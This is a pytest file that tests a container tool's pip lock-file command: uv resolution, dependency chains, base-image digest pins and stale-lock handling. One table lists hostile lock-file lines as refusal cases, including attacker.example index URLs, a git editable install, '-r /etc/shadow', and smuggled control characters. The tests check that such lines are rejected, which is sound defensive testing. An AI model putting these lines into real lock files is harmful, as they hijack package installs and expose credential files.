"""`lock`: the requirement set of a recipe, the resolver's command line, the lock file's reading,
the incompatibility rules on a resolved set, and writing/checking a lock (the resolver is a
stand-in here; tests/e2e/test_lock_resolve.py resolves for real against PyPI)."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
from _json_records import error, result
from _recipe_helpers import CPU_RECIPE, GPU_RECIPE, merged, write
from hvd_container.containers import lockfile
from hvd_container.containers.blocks import pip_requirements as requirements
from hvd_container.containers.engine import EngineUnreachable
from hvd_container.containers.lock import (
    LockInputs,
    chain,
    compile_argv,
    lock_recipe,
    resolved_problems,
    uv_command,
)
from hvd_container.containers.lockfile import entries, parse_lock
from hvd_container.containers.pipconfig import HostPipConfig
from hvd_container.containers.recipe_loader import load_recipe, read_recipe

from hvd_container.cli.app import main
from hvd_container.core.errors import StepFailed, UserError


def entry(name: str, version: str, via: str) -> str:
    return f"{name}=={version} \\\n    --hash=sha256:{'0' * 64}\n    # via {via}\n"


LIGHTNING_LOCK = (
    entry("lightning", "2.0.2", "-r -")
    + entry("numpy", "2.1.0", "torch, torchmetrics")
    + entry("torch", "2.5.0", "lightning, torchmetrics")
    + entry("torchmetrics", "1.4.0", "lightning")
)


def test_requirements_are_what_the_pip_steps_install() -> None:
    assert requirements(load_recipe("cpu-bookworm")) == [
        "torch==2.13.0+cpu", "setuptools", "wheel", "packaging", "cloudpickle", "psutil",
        "pyyaml", "horovod==0.28.1", "numpy==2.4.6",
    ]  # fmt: skip
    tf = requirements(load_recipe("cpu-bookworm-tf-pt"))
    assert "tensorflow-cpu==2.15.1" in tf and "numpy==1.26.4" in tf
    lightning = requirements(load_recipe("lightning-pt113"))
    assert "torch==1.13.1" in lightning and any(r.startswith("lightning==") for r in lightning)


def test_the_target_and_indexes_reach_the_resolver(tmp_path: Path) -> None:
    from _recipe_helpers import GPU_RECIPE

    recipe = load_recipe(write(tmp_path, GPU_RECIPE))  # torch from the PyTorch index
    assert load_recipe("cpu-bookworm").pip_platform == "x86_64-manylinux_2_36"
    from hvd_container.containers.lock import lock_inputs

    pip = HostPipConfig(index_url="https://mirror.example/simple", find_links=["/wheels"])
    inputs = lock_inputs(recipe, pip)
    argv = compile_argv(inputs, ["uv"])
    assert argv[:3] == ["uv", "pip", "compile"] and "--generate-hashes" in argv
    assert argv[argv.index("--python-version") + 1] == recipe.python.version == "3.10"
    assert argv[argv.index("--python-platform") + 1] == recipe.pip_platform
    assert argv[argv.index("--index-url") + 1] == "https://mirror.example/simple"
    assert argv[argv.index("--extra-index-url") + 1] == "https://download.pytorch.org/whl/cu117"
    assert argv[argv.index("--find-links") + 1] == "/wheels"
    # the digest changes with any input
    other = LockInputs(**{**inputs.__dict__, "python_version": "3.12"})
    assert other.digest() != inputs.digest()


def test_the_lock_is_read_with_its_dependency_chains() -> None:
    packages = parse_lock(LIGHTNING_LOCK)
    assert packages["torch"].version == "2.5.0"
    assert chain(packages, "torch") == "lightning -> torch"
    assert chain(packages, "numpy") == "lightning -> torch -> numpy"
    assert chain(packages, "lightning") == "lightning"


def test_rules_on_the_resolved_set_name_the_chain_and_the_fix(tmp_path: Path) -> None:
    # lightning-pt113 pins torch 1.13.1 (its numpy pin left out, to see the rule fire)
    recipe = load_recipe("lightning-pt113").model_copy(update={"pip": []})
    packages = parse_lock(LIGHTNING_LOCK.replace("2.5.0", "1.13.1"))
    (problem,) = resolved_problems(recipe, packages)  # numpy 2 with torch 1.13
    assert problem.startswith("numpy 2.1.0 (lightning -> torch -> numpy) with torch 1.13.1")
    assert problem.endswith("add numpy<2 to pip:")
    replaced = resolved_problems(recipe, parse_lock(LIGHTNING_LOCK))
    assert any(
        p.startswith(
            "torch: the recipe pins 1.13.1, the resolved set has 2.5.0 (lightning -> torch)"
        )
        for p in replaced
    ), replaced
    tf_216 = parse_lock(
        entry("tensorflow-cpu", "2.16.1", "-r -") + entry("horovod", "0.28.1", "-r -")
    )
    tf_recipe = load_recipe("cpu-bookworm-tf-pt")
    assert any(
        "does not build against TensorFlow >= 2.16" in p
        for p in resolved_problems(tf_recipe, tf_216)
    )


STAND_IN = """\
import os, sys
# FAKE: a stand-in for `uv pip compile` (no network in the fast suite): writes the lock it is
# given to --output-file, as uv does, keeping what that file held for the test to read
sys.stdin.read()
if os.environ.get("FAKE_UV_FAIL"):
    sys.exit(os.environ["FAKE_UV_FAIL"])
output = sys.argv[sys.argv.index("--output-file") + 1]
with open(output) as held, open(os.environ["FAKE_UV_LOCK"] + ".preferred", "w") as seen:
    seen.write(held.read())
with open(output, "w") as out:
    out.write(open(os.environ["FAKE_UV_LOCK"]).read())
"""


@pytest.fixture()
def fake_uv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    script = tmp_path / "uv_stand_in.py"
    script.write_text(STAND_IN)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    uv = bin_dir / "uv"
    uv.write_text(f'#!/bin/sh\nexec {sys.executable} {script} "$@"\n')
    uv.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:/usr/bin:/bin")
    lock = tmp_path / "resolved.txt"
    monkeypatch.setenv("FAKE_UV_LOCK", str(lock))
    lock.write_text(
        entry("filelock", "3.0.0", "torch")
        + entry("torch", "2.13.0+cpu", "-r -")
        + entry("numpy", "1.26.4", "-r -")
    )
    return lock


def test_lock_writes_then_checks_then_reports_changes(
    fake_uv: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    recipe = write(tmp_path, merged(CPU_RECIPE, pip=["numpy==1.26.4"]), "mine.yaml")
    first = lock_recipe(str(recipe), pip=HostPipConfig())
    assert first.written and first.path == tmp_path / "mine.lock"
    assert first.changes == ["+ filelock 3.0.0", "+ numpy 1.26.4", "+ torch 2.13.0+cpu"]
    text = first.path.read_text()
    assert text.startswith("# hvd-container lock of recipe") and "inputs sha256:" in text
    assert lock_recipe(str(recipe), check=True, pip=HostPipConfig()).changes == []
    # a newer release upstream: the lock is still current for the recipe; --upgrade takes it
    fake_uv.write_text(fake_uv.read_text().replace("filelock==3.0.0", "filelock==3.1.0"))
    assert main(["lock", str(recipe), "--check", "--json"]) == 0
    capsys.readouterr()
    assert main(["lock", str(recipe), "--check", "--upgrade", "--json"]) == 1  # nothing written
    record = result("lock", capsys.readouterr().out)
    assert record["changes"] == ["filelock 3.0.0 -> 3.1.0"] and not record["written"]
    assert first.path.read_text() == text
    assert main(["lock", str(recipe), "--upgrade"]) == 0
    assert "filelock==3.1.0" in first.path.read_text()


def test_a_current_lock_comes_back_at_once_and_says_each_step(
    fake_uv: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A lock made for the recipe's current inputs is not resolved again (lock was silent for
    3-15 s and resolved anyway); what it does is shown as it goes."""
    recipe = write(tmp_path, merged(CPU_RECIPE, pip=["numpy==1.26.4"]), "mine.yaml")
    steps: list[str] = []
    lock_recipe(str(recipe), pip=HostPipConfig(), on_step=steps.append)
    assert [s.split()[0] for s in steps] == ["reading", "resolving", "writing"]
    assert re.fullmatch(
        r"resolving \d+ requirements with uv for python 3\.11 on x86_64-manylinux_2_36", steps[1]
    )
    monkeypatch.setenv("FAKE_UV_FAIL", "uv must not run for a current lock")
    steps.clear()
    again = lock_recipe(str(recipe), pip=HostPipConfig(), on_step=steps.append)
    assert not again.written and again.changes == [] and len(again.packages) == 3
    assert steps[-1].endswith(
        "is current: the recipe asks for what it was locked for (--upgrade resolves again)"
    )
    assert main(["lock", str(recipe)]) == 0
    assert "[lock] => " in capsys.readouterr().out  # plain lines where there is no terminal
    with pytest.raises(StepFailed, match="uv must not run"):
        lock_recipe(str(recipe), upgrade=True, pip=HostPipConfig())


def test_failures_are_one_line(
    fake_uv: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    recipe = write(tmp_path, merged(CPU_RECIPE, pip=["numpy==1.26.4"]), "mine.yaml")
    monkeypatch.setenv(
        "FAKE_UV_FAIL",
        "error: Request failed after 3 retries\n  Caused by: Failed to fetch: "
        "https://download.pytorch.org/whl/cu117/torch/\n  cause: dns error",
    )
    with pytest.raises(
        StepFailed,
        match=r"^cannot reach the index https://download.pytorch.org/whl/cu117 from here",
    ):
        lock_recipe(str(recipe), pip=HostPipConfig())
    assert not (tmp_path / "mine.lock").exists()
    monkeypatch.delenv("FAKE_UV_FAIL")
    fake_uv.write_text(entry("torch", "1.13.1", "-r -") + entry("numpy", "2.1.0", "torch"))
    old = write(tmp_path, merged(CPU_RECIPE, pytorch={"version": "1.13.1", "cuda_tag": "cpu", "wheel_index": "pip"}, horovod=None, pip=[]), "old.yaml")  # fmt: skip
    assert main(["lock", str(old), "--json"]) == 2
    record = error(capsys.readouterr().out)
    assert "numpy 2.1.0 (torch -> numpy) with torch 1.13.1" in record["text"]
    assert not (tmp_path / "old.lock").exists()  # nothing written for a refused set


def test_without_uv_it_says_how_to_get_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from hvd_container.containers import lock

    monkeypatch.setenv("PATH", str(tmp_path))  # no uv on PATH
    monkeypatch.setattr(lock, "find_uv_bin", None)  # as when the uv package is not installed
    with pytest.raises(UserError, match=r"pip install 'hvd-container\[build\]'"):
        lock.uv_command()


def _locked_recipe(tmp_path: Path, fake_uv: Path, **changes: object) -> Path:
    """A CPU recipe and its lock (resolved by the stand-in), next to each other."""
    fake_uv.write_text(
        entry("cloudpickle", "3.1.2", "horovod")
        + entry("horovod", "0.28.1", "-r -")
        + entry("torch", "2.13.0+cpu", "-r -")
        + entry("numpy", "2.4.6", "-r -")
    )
    recipe = write(tmp_path, merged(CPU_RECIPE, **changes), "mine.yaml")
    lock_recipe(str(recipe), pip=HostPipConfig())
    return recipe


def test_a_locked_recipe_installs_exactly_its_lock(fake_uv: Path, tmp_path: Path) -> None:
    from hvd_container.containers.render import build_context, render_definition

    recipe = load_recipe(_locked_recipe(tmp_path, fake_uv))
    assert recipe.lock is not None
    context = build_context(recipe)
    dockerfile = context["Dockerfile"].decode()
    assert "COPY requirements.lock /opt/hvd/requirements.lock" in dockerfile
    assert (
        "hvd-pip install --no-cache-dir --require-hashes --no-deps -r /opt/hvd/requirements.lock"
        in dockerfile
    )
    assert (
        "--require-hashes -r /opt/hvd/horovod.lock" in dockerfile
        and "--no-build-isolation --no-deps -w /opt/hvd/wheels ." in dockerfile
    )
    # nothing is resolved inside the image: no other pip install names a package; the image
    # installs the Horovod wheel its own stage compiled
    installs = [line for line in dockerfile.splitlines() if "hvd-pip install" in line]
    assert all(
        "-r /opt/hvd/" in line or "--no-deps /opt/hvd/wheels/horovod-0.28.1-*.whl" in line
        for line in installs
    ), installs
    locked, horovod = context["requirements.lock"].decode(), context["horovod.lock"].decode()
    assert "torch==2.13.0+cpu" in locked and "horovod" not in locked.split("# via")[0]
    assert horovod.startswith("horovod==0.28.1 \\") and "--hash=sha256:" in horovod
    assert "torch==2.13.0+cpu" in render_definition(recipe)  # the definition carries it too
    assert recipe.digest() != read_recipe(tmp_path / "mine.yaml").digest()


def test_a_stale_lock_is_refused_with_the_command_that_refreshes_it(
    fake_uv: Path, tmp_path: Path
) -> None:
    path = _locked_recipe(tmp_path, fake_uv)
    write(tmp_path, merged(CPU_RECIPE, pip=["numpy==2.4.6", "rich"]), "mine.yaml")
    with pytest.raises(UserError) as info:
        load_recipe(path)
    assert str(info.value) == (
        f"{tmp_path / 'mine.lock'}: stale: the recipe asks for other packages or another target "
        f"than it was locked for; refresh it with `hvd-container lock {path}`"
    )
    lock_recipe(str(path), pip=HostPipConfig())  # locking again is how it is refreshed
    assert load_recipe(path).lock is not None


HASH = "    --hash=sha256:" + "0" * 64

# what a lock from someone else could add to make pip install something other than its entries
HOSTILE_LINES = {
    "an index URL": ("--index-url https://attacker.example/simple", "not a locked package"),
    "an extra index": ("--extra-index-url=https://attacker.example/simple", "not a locked package"),
    "another requirements file": ("-r /etc/shadow", "not a locked package"),
    "an editable install": ("-e git+https://attacker.example/x.git#egg=x", "not a locked package"),
    "a trusted host": ("--trusted-host attacker.example", "not a locked package"),
    "build settings": ("numpy==2.4.6 --config-settings=x=y \\", "not a locked package"),
    "a direct URL": ("evil @ https://attacker.example/evil-1.0.tar.gz \\", "not a locked package"),
    "a variable": ("numpy==${VERSION} \\", "not a locked package"),
    "an extra": ("requests[socks]==2.32.0 \\", "not a locked package"),
    "a marker": ('numpy==2.4.6 ; python_version > "3" \\', "not a locked package"),
    "a NUL": ("# a comment\x00--index-url x", "a control character"),
    "a carriage return": ("# a comment\r--index-url x", "a control character"),
    "an entry without a hash": ("evil==1.0", "an entry without its --hash line"),
    "a hash for nothing": (HASH, "a hash that follows no entry"),
    "a backslash into the next entry": ("evil==1.0 \\", "line before ends in a backslash"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_LINES)
def test_a_lock_says_nothing_but_its_entries(name: str, fake_uv: Path, tmp_path: Path) -> None:
    """Every line of a lock is an entry, a hash or a comment: options, URLs, extras, markers,
    variables and control characters are refused with the line's number, before any build."""
    line, problem = HOSTILE_LINES[name]
    path = _locked_recipe(tmp_path, fake_uv)
    lock = tmp_path / "mine.lock"
    lines = lock.read_text().split("\n")
    at = next(i for i, text in enumerate(lines) if text.startswith("numpy=="))  # between entries
    lock.write_text("\n".join([*lines[:at], line, *lines[at:]]))
    with pytest.raises(UserError) as info:
        load_recipe(path)
    message = str(info.value)
    # the line itself, or (a backslash that swallows the next line) the line after it
    assert re.match(rf"{re.escape(str(lock))}: line ({at + 1}|{at + 2}): ", message), message
    assert problem in message, message
    assert "\n" not in message and "\x00" not in message


def test_a_lock_ending_in_a_backslash_is_refused(fake_uv: Path, tmp_path: Path) -> None:
    path = _locked_recipe(tmp_path, fake_uv)
    lock = tmp_path / "mine.lock"
    lines = lock.read_text().rstrip("\n").split("\n")
    last_hash = max(i for i, text in enumerate(lines) if "--hash=" in text)
    lock.write_text("\n".join(lines[: last_hash + 1]) + " \\\n")  # pip would join what follows
    with pytest.raises(UserError, match="ends in a backslash that continues into nothing"):
        load_recipe(path)


# --- the base image pinned by digest ------------------------------------------------------------

BASE = "registry.example:5000/cuda:11.8.0-devel-ubuntu22.04"
DIGEST_A, DIGEST_B = "sha256:" + "a" * 64, "sha256:" + "b" * 64


class RegistryStandIn:
    """Stands in for the engine's registry query (tests/e2e/test_lock_base_pin.py asks a real
    registry through dockerd)."""

    def __init__(self, digest: str | None = None, error: Exception | None = None) -> None:
        self.digest, self.error = digest, error
        self.asked: list[str] = []

    def registry_digest(self, remote: str, auth: object) -> str | None:
        self.asked.append(remote)
        if self.error:
            raise self.error
        return self.digest


def test_lock_pins_the_base_by_digest_and_the_build_uses_it(fake_uv: Path, tmp_path: Path) -> None:
    from hvd_container.containers.render import build_context, docker_build, render_definition

    path = write(tmp_path, merged(CPU_RECIPE, base={"image": BASE}), "mine.yaml")
    registry = RegistryStandIn(DIGEST_A)
    done = lock_recipe(str(path), pip=HostPipConfig(), engine=registry)  # type: ignore[arg-type]
    assert registry.asked == [BASE] and done.base is not None and done.base.digest == DIGEST_A
    assert f"# base {BASE} {DIGEST_A}\n" in done.path.read_text()
    recipe = load_recipe(path)
    assert docker_build(recipe).base == f"{BASE}@{DIGEST_A}"
    assert f"FROM {BASE}@{DIGEST_A} AS " in build_context(recipe)["Dockerfile"].decode()
    assert f"From: {BASE}@{DIGEST_A}\n" in render_definition(recipe)
    # the tag moved: --check says so, and the image the lock names stays until it is re-locked
    moved = RegistryStandIn(DIGEST_B)
    check = lock_recipe(str(path), check=True, pip=HostPipConfig(), engine=moved)  # type: ignore[arg-type]
    assert check.changes == [f"base {BASE} {DIGEST_A} -> {DIGEST_B}"] and not check.written
    assert f"@{DIGEST_A}" in build_context(load_recipe(path))["Dockerfile"].decode()
    # the recipe asks for the same: a plain lock keeps the pin, --upgrade takes the new digest
    assert not lock_recipe(str(path), pip=HostPipConfig(), engine=moved).written  # type: ignore[arg-type]
    lock_recipe(str(path), upgrade=True, pip=HostPipConfig(), engine=moved)  # type: ignore[arg-type]
    relocked = load_recipe(path)
    assert f"@{DIGEST_B}" in build_context(relocked)["Dockerfile"].decode()
    assert relocked.digest() != recipe.digest()  # a new base is a new image tag's content


def test_a_registry_out_of_reach_leaves_the_base_unpinned_or_keeps_the_pin(
    fake_uv: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from hvd_container.containers.render import docker_build

    path = write(tmp_path, merged(CPU_RECIPE, base={"image": BASE}), "mine.yaml")
    down = RegistryStandIn(
        error=EngineUnreachable("Error while fetching server API version\nrefused")
    )
    done = lock_recipe(str(path), pip=HostPipConfig(), engine=down)  # type: ignore[arg-type]
    assert done.base is not None and done.base.digest is None
    line = f"# base {BASE} unpinned: the registry could not be asked: Error while fetching server API version refused\n"
    assert line in done.path.read_text()  # one line, whatever the engine said
    assert docker_build(load_recipe(path)).base == BASE
    # once pinned, a later lock without the registry keeps the pin
    lock_recipe(str(path), upgrade=True, pip=HostPipConfig(), engine=RegistryStandIn(DIGEST_A))  # type: ignore[arg-type]
    again = lock_recipe(str(path), upgrade=True, pip=HostPipConfig(), engine=down)  # type: ignore[arg-type]
    assert again.base is not None and again.base.digest == DIGEST_A and again.changes == []
    # the CLI (no engine answers at this DOCKER_HOST) warns on stderr and still writes the lock
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-such.sock")
    (tmp_path / "mine.lock").unlink()
    assert main(["lock", str(path)]) == 0
    err = capsys.readouterr().err
    assert err.startswith(
        f"hvd-container: warning: base {BASE} not pinned: the registry could not be asked:"
    )
    assert len(err.strip().splitlines()) == 1


def test_a_pin_for_another_base_is_a_stale_lock(fake_uv: Path, tmp_path: Path) -> None:
    path = write(tmp_path, merged(CPU_RECIPE, base={"image": BASE}), "mine.yaml")
    lock_recipe(str(path), pip=HostPipConfig(), engine=RegistryStandIn(DIGEST_A))  # type: ignore[arg-type]
    write(
        tmp_path, merged(CPU_RECIPE, base={"image": BASE.replace("11.8.0", "11.8.1")}), "mine.yaml"
    )
    with pytest.raises(
        UserError, match=r"mine.lock: stale: it pins the base .*11\.8\.0.*refresh it with"
    ):
        load_recipe(path)


def test_bases_made_here_or_pinned_in_the_recipe_are_not_asked_for(
    fake_uv: Path, tmp_path: Path
) -> None:
    registry = RegistryStandIn(DIGEST_A)
    for name, base in [("deb", "debootstrap:bookworm"), ("own", f"{BASE}@{DIGEST_B}")]:
        path = write(tmp_path, merged(CPU_RECIPE, base={"image": base}), f"{name}.yaml")
        done = lock_recipe(str(path), pip=HostPipConfig(), engine=registry)  # type: ignore[arg-type]
        assert done.base is None and "# base " not in done.path.read_text()
    assert registry.asked == []


def test_the_build_notes_a_base_that_no_digest_pins(fake_uv: Path, tmp_path: Path) -> None:
    from hvd_container.containers.build import unpinned_base

    path = write(tmp_path, merged(CPU_RECIPE, base={"image": BASE}), "mine.yaml")
    note = unpinned_base(load_recipe(path))  # no lock at all
    assert note is not None and note.startswith(f"base {BASE} is not pinned by digest: ")
    down = RegistryStandIn(error=EngineUnreachable("refused"))
    lock_recipe(str(path), pip=HostPipConfig(), engine=down)  # type: ignore[arg-type]
    note = unpinned_base(load_recipe(path))
    assert note is not None and "(the registry could not be asked: refused)" in note
    (tmp_path / "mine.lock").unlink()
    lock_recipe(str(path), pip=HostPipConfig(), engine=RegistryStandIn(DIGEST_A))  # type: ignore[arg-type]
    assert unpinned_base(load_recipe(path)) is None
    assert unpinned_base(load_recipe(write(tmp_path, CPU_RECIPE, "deb.yaml"))) is None


def test_a_torch_build_missing_from_the_pip_configuration_names_the_index_and_the_fix(
    tmp_path: Path, fake_uv: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`wheel_index: pip` (now pip-config) looks like pypi but means the host's indexes: uv's
    'no version of torch==2.4.1+cu121' becomes where it was looked for and where it is."""
    monkeypatch.setenv(
        "FAKE_UV_FAIL",
        "  × No solution found when resolving dependencies:\n  ╰─▶ Because there is no version "
        "of torch==2.4.1+cu121 and you require torch==2.4.1+cu121, we can conclude that your "
        "requirements are unsatisfiable.",
    )
    data = merged(
        GPU_RECIPE,
        base={"image": "nvidia/cuda:12.1.1-cudnn8-devel-ubuntu22.04"},
        cuda={"version": "12.1"},
        pytorch={"version": "2.4.1", "cuda_tag": "cu121", "wheel_index": "pip"},
        tensorflow=None,
        horovod={**GPU_RECIPE["horovod"], "frameworks": ["pytorch"], "patches": ["cxx17"]},
    )
    recipe = write(tmp_path, data, "cu.yaml")
    assert read_recipe(recipe).pytorch.wheel_index == "pip-config"  # the old name
    with pytest.raises(StepFailed) as info:
        lock_recipe(str(recipe), pip=HostPipConfig())
    message = str(info.value)
    assert "\n" not in message
    assert "no version of torch==2.4.1+cu121" in message
    assert message.endswith(
        "; torch==2.4.1+cu121 was looked for only on the indexes of this machine's pip "
        "configuration (pytorch.wheel_index: pip-config), and none of them has it: take it from "
        "PyTorch's index (wheel_index: download.pytorch.org), or PyPI's own build, without "
        "+cu121 (wheel_index: pypi)"
    )


@pytest.mark.parametrize(
    ("old", "new"), [("pip", "pip-config"), ("pytorch", "download.pytorch.org"), ("pypi", "pypi")]
)
def test_the_old_wheel_index_names_are_accepted(tmp_path: Path, old: str, new: str) -> None:
    data = merged(CPU_RECIPE, pytorch={"version": "2.13.0", "cuda_tag": "cpu", "wheel_index": old})
    recipe = read_recipe(write(tmp_path, data))
    assert recipe.pytorch is not None and recipe.pytorch.wheel_index == new


@pytest.mark.parametrize("suite", sorted(lockfile._GLIBC))
def test_every_known_base_names_a_platform_uv_accepts(suite: str) -> None:
    """uv refuses a platform it does not name (trixie's glibc 2.41 was refused): each known
    base's platform is among those uv's own help lists."""
    accepted = subprocess.run(
        [*uv_command(), "pip", "compile", "--help"], capture_output=True, text=True, check=True
    ).stdout
    platform = lockfile.platform_of(suite, "amd64")
    assert re.search(rf"\b{re.escape(platform)}\b", accepted), (suite, platform)


def test_a_changed_recipe_is_locked_from_its_old_pins_and_upgrade_from_none(
    fake_uv: Path, tmp_path: Path
) -> None:
    recipe = write(tmp_path, merged(CPU_RECIPE, pip=["numpy==1.26.4"]), "mine.yaml")
    lock_recipe(str(recipe), pip=HostPipConfig())
    preferred = Path(f"{fake_uv}.preferred")
    assert preferred.read_text() == ""  # a first lock of a recipe that extends nothing
    old = (tmp_path / "mine.lock").read_text()
    write(tmp_path, merged(CPU_RECIPE, pip=["numpy==1.26.4", "rich"]), "mine.yaml")
    lock_recipe(str(recipe), pip=HostPipConfig())
    # uv is handed the old lock's entries (no header, no notes) to keep where they still fit
    assert preferred.read_text() == "".join(entries(old).values()) != ""
    lock_recipe(str(recipe), upgrade=True, pip=HostPipConfig())
    assert preferred.read_text() == ""


def test_a_derived_recipe_is_first_locked_from_its_parents_pins(
    fake_uv: Path, tmp_path: Path
) -> None:
    parent = write(tmp_path, merged(CPU_RECIPE, pip=["numpy==1.26.4"]), "parent.yaml")
    lock_recipe(str(parent), pip=HostPipConfig())
    # what a lock from elsewhere may hold beyond entries never reaches uv
    lock = (tmp_path / "parent.lock").read_text()
    (tmp_path / "parent.lock").write_text(lock + "# --index-url https://evil.example/simple\n")
    child = tmp_path / "child.yaml"
    child.write_text("extends: parent.yaml\nname: child\npip: [numpy==1.26.4, rich]\n")
    lock_recipe(str(child), pip=HostPipConfig())
    preferred = Path(f"{fake_uv}.preferred").read_text()
    assert preferred == "".join(entries(lock).values()) and "torch==2.13.0+cpu" in preferred
    assert "index-url" not in preferred and "#" not in preferred
